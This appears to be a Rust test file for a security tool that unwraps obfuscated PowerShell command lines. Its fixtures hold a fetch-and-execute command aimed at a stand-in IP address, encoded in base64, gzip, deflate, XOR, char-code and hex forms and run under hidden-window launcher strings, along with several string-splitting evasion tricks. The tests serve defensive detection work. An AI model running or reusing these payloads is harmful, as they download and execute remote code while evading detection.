//! What lies under wrappings: each made outside this program, with the standard library of another language.

use palisade_text::unfold::{MAX_BYTES, MAX_DEPTH, MAX_LAYERS, fuzz, is_wrapped, unfold};

const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=";
const GZIP: &str = "H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1zcyMNYz0DM0NNaz1E/UKyg2VNcEABBOcj1JAAAA";
const DEFLATE: &str =
    "83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkpsNLXNzIw1jPQMzQ01rPUT9QrKDZU1wQA";
const XORED: &str =
    "amZ7AwttRlQObEFJRkBXA21GVw10RkFgT0pGTVcKDWdMVE1PTEJHcFdRSk1ECwRLV1dTGQwMERMQDRMNEhIQDRoMQg1TUBIECg==";
const TWICE: &str = "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AbgBvAHAAIAAtAGUAbgBjACAAUwBRAEIARgBBAEYAZwBBAEkAQQBBAG8AQQBFADQAQQBaAFEAQgAzAEEAQwAwAEEAVAB3AEIAaQBBAEcAbwBBAFoAUQBCAGoAQQBIAFEAQQBJAEEAQgBPAEEARwBVAEEAZABBAEEAdQBBAEYAYwBBAFoAUQBCAGkAQQBFAE0AQQBiAEEAQgBwAEEARwBVAEEAYgBnAEIAMABBAEMAawBBAEwAZwBCAEUAQQBHADgAQQBkAHcAQgB1AEEARwB3AEEAYgB3AEIAaABBAEcAUQBBAFUAdwBCADAAQQBIAEkAQQBhAFEAQgB1AEEARwBjAEEASwBBAEEAbgBBAEcAZwBBAGQAQQBCADAAQQBIAEEAQQBPAGcAQQB2AEEAQwA4AEEATQBnAEEAdwBBAEQATQBBAEwAZwBBAHcAQQBDADQAQQBNAFEAQQB4AEEARABNAEEATABnAEEANQBBAEMAOABBAFkAUQBBAHUAQQBIAEEAQQBjAHcAQQB4AEEAQwBjAEEASwBRAEEAPQA=";
const CHARS: &str = "[char]73+[char]69+[char]88+[char]32+[char]40+[char]78+[char]101+[char]119+[char]45+[char]79+[char]98+[char]106+[char]101+[char]99+[char]116+[char]32+[char]78+[char]101+[char]116+[char]46+[char]87+[char]101+[char]98+[char]67+[char]108+[char]105+[char]101+[char]110+[char]116+[char]41+[char]46+[char]68+[char]111+[char]119+[char]110+[char]108+[char]111+[char]97+[char]100+[char]83+[char]116+[char]114+[char]105+[char]110+[char]103+[char]40+[char]39+[char]104+[char]116+[char]116+[char]112+[char]58+[char]47+[char]47+[char]50+[char]48+[char]51+[char]46+[char]48+[char]46+[char]49+[char]49+[char]51+[char]46+[char]57+[char]47+[char]97+[char]46+[char]112+[char]115+[char]49+[char]39+[char]41";
const CODES: &str = "73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,57,47,97,46,112,115,49,39,41";
const HEX: &str = "49455820284e65772d4f626a656374204e65742e576562436c69656e74292e446f776e6c6f6164537472696e672827687474703a2f2f3230332e302e3131332e392f612e7073312729203b2049455820284e65772d4f626a656374204e65742e576562436c69656e74292e446f776e6c6f6164537472696e672827687474703a2f2f3230332e302e3131332e392f612e7073312729";

#[test]
fn wrappings_come_off() {
    for (text, how) in [
        (format!("powershell.exe -NoP -W Hidden -Enc {ENCODED}"), "base64"),
        (
            format!(
                "[IO.StreamReader]::new([IO.Compression.GzipStream]::new([Convert]::FromBase64String('{GZIP}')"
            ),
            "base64, gzip",
        ),
        (format!("DeflateStream FromBase64String(\"{DEFLATE}\")"), "base64, deflate"),
        (format!("$b=[Convert]::FromBase64String('{XORED}');$b|%{{$_ -bxor 0x23}}"), "base64, xor"),
        (format!("IEX({CHARS})"), "characters"),
        (format!("({CODES}|%{{[char]$_}})-join''"), "characters"),
        (format!("$x='{HEX}'"), "hexadecimal"),
    ] {
        assert!(is_wrapped(&text), "{text}");
        let layers = unfold(&text);
        let found = layers.iter().find(|l| l.text.contains(COMMAND));
        assert_eq!(found.map(|l| (l.how, l.depth)), Some((how, 1)), "{text}: {layers:?}");
    }
}

#[test]
fn wrappings_in_wrappings() {
    let layers = unfold(&format!("cmd /c powershell -e {TWICE}"));
    let depths: Vec<_> = layers.iter().filter(|l| l.how == "base64").map(|l| l.depth).collect();
    assert_eq!(depths, [1, 2]);
    assert!(layers.iter().any(|l| l.depth == 2 && l.text == COMMAND));
}

#[test]
fn cut_strings_are_joined() {
    for (text, want) in [
        ("IEX ('Down'+'load'+'String')", "IEX ('DownloadString')"),
        ("& (\"{1}{0}\" -f 'X','IE') 1", "& (\"IEX\") 1"),
        ("\"{2}{0}{1}\" -f'ke-','Expression','Invo'", "\"Invoke-Expression\""),
        ("p^o^w^e^rshell -c x", "powershell -c x"),
        ("I`n`v`oke-Expression", "Invoke-Expression"),
        ("chr = \"ab\" & \"cd\" & \"ef\"", "chr = \"abcdef\""),
    ] {
        let layers = unfold(text);
        assert_eq!(layers.first().map(|l| (l.how, l.text.as_str())), Some(("joined", want)), "{text}");
    }
}

#[test]
fn honest_texts_stay_as_they_are() {
    for text in [
        r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1718379636,i,17283901209862357241"#,
        "MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
        "/usr/lib/jvm/java-11-openjdk-amd64/bin/java -Djava.util.logging.config.file=/srv/tomcat/conf/logging.properties",
        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        "Microsoft.Windows.ShellExperienceHost_cw5n1h2txyewy!App.AppXtk181tbxbce2qsex02s8tw7hfxa9xb3t.mca",
        "git commit -m 'a + b' && echo done",
        "192.168.10.21,10.0.0.1,172.16.4.200,1,2,3",
        "",
    ] {
        assert_eq!(unfold(text), [], "{text}");
    }
}

#[test]
fn nothing_grows_without_end() {
    // A text that packs to itself many times, endless runs, and a stream that claims more than it may.
    let texts = [
        "A".repeat(3 << 20),
        "QUFBQUFBQUFBQUFBQUFBQUFBQUE ".repeat(100_000),
        "'+'".repeat(500_000),
        "\"{0}\" -f 'x',".repeat(60_000),
        "65,".repeat(500_000),
        "1".repeat(1 << 20),
        format!("{} ", "7".repeat(130)).repeat(8_000),
        format!("{GZIP} ").repeat(10_000),
        format!("-bxor 9 {DEFLATE} ").repeat(10_000),
        "`a^b".repeat(300_000),
        format!("\u{fffd}{}", "é`".repeat(200_000)),
    ];
    for text in &texts {
        let layers = unfold(text);
        assert!(layers.len() <= MAX_LAYERS);
        assert!(layers.iter().map(|l| l.text.len()).sum::<usize>() <= MAX_BYTES);
        assert!(layers.iter().all(|l| l.depth <= MAX_DEPTH));
    }
}

#[test]
fn a_million_rows_of_one_value() {
    let wrapped = format!("$x='{DEFLATE}'");
    let layers = unfold(&wrapped);
    assert!(!layers.is_empty());
    // The pipeline asks of every row; what is cheap to ask must stay cheap, and what is found the same.
    let plain = r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule";
    for row in 0..1_000_000 {
        assert!(unfold(plain).is_empty());
        if row % 100 == 0 {
            assert_eq!(unfold(&wrapped), layers);
        }
    }
    // A million rows in one text: it is looked at as far as it may be long.
    let layers = unfold(&format!("{wrapped}\n").repeat(1_000_000));
    assert!(!layers.is_empty() && layers.len() <= MAX_LAYERS);
}

/// Bytes changed at random places (a fixed seed) never cause a panic and never break a limit.
#[test]
fn damaged_texts() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let seeds = [
        format!("powershell -enc {ENCODED}"),
        format!("FromBase64String('{GZIP}') -bxor 7"),
        format!("IEX({CHARS})"),
        "& (\"{1}{0}\" -f 'X','IE')+'a'+\"b\"".to_owned(),
    ];
    for round in 0..2_000 {
        let mut bytes = seeds[round % seeds.len()].clone().into_bytes();
        for _ in 0..=next() % 6 {
            let at = next() as usize % bytes.len();
            bytes[at] = next() as u8;
        }
        fuzz(&bytes);
    }
}
